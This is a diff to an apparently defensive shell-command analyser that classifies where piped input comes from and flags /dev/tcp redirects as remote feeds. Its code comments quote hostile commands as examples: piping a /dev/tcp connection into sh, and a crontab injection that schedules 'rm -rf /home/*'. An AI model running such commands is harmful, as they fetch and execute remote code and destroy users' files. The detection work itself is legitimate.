@@ -65,8 +65,12 @@ def stdin_of(cmd: Command, depth: int = 0) -> Feed | None:
     for op, target in cmd.redirects:
         if op in ("<<", "<<<"):
             return Feed("text", target, source=op)
+        if op == "<" and target.startswith(("/dev/tcp/", "/dev/udp/")):  # cat < /dev/tcp/HOST/PORT | sh
+            return Feed("remote", source=target)
         if op == "<":
             return Feed("file", source=target)
+        if op == "<&":  # cat <&3: a descriptor opened elsewhere (exec 3<>/dev/tcp/…), not followed
+            return Feed("unknown", source=f"file descriptor {target}")
     if cmd.stdin is not None:
         if depth >= MAX_CHAIN:  # fail closed: a producer the analyser did not follow
             return Feed("unknown", source="a pipeline longer than the analyser follows")
@@ -142,9 +146,10 @@ def _group_output(group: tuple[Command, ...], depth: int) -> Feed:
     hidden = next((f for f in feeds if f.kind in ("remote", "encoded", "unknown")), None)
     if hidden is not None:
         return hidden
-    if any(f.kind != "text" for f in feeds):
+    if all(f.kind != "text" for f in feeds):
         return Feed("listing", source=" ; ".join(f.source for f in feeds)[:400])
-    text = "".join(f.text + _line_end(c.words) for f, c in zip(feeds, writers, strict=True))
+    # (crontab -l; echo '*/5 * * * * rm -rf /home/*') | crontab -: the known lines, a listing's left out
+    text = "".join(f.text + _line_end(c.words) for f, c in zip(feeds, writers, strict=True) if f.kind == "text")
     return Feed("text", text[: limit("max_decoded_chars")], source=" ; ".join(f.source for f in feeds)[:400])
 
 
